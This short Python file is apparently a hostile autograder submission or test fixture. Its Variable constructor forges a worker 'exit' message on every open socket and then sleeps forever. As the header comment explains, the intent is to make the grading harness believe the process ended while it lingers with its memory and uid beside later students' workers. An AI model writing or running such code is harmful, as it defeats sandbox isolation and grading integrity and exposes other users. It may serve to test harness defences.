# Forges the zygote's exit report on the raw socket from inside the first probe, then sleeps: a grader
# that believed the report would leave this worker alive, holding its memory and its slot uid, for the
# rest of the session (and beside the next student's worker).
import json, os, stat, time

import numpy as np


def _linger():
    for name in os.listdir("/proc/self/fd"):
        try:
            fd = int(name)
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                frame = json.dumps({"event": "exit", "status": {"code": 0}}).encode()
                os.write(fd, len(frame).to_bytes(4, "big") + frame)
                os.close(fd)
        except (OSError, ValueError):
            continue
    while True:
        time.sleep(3600)


class Variable:
    def __init__(self, data):
        _linger()
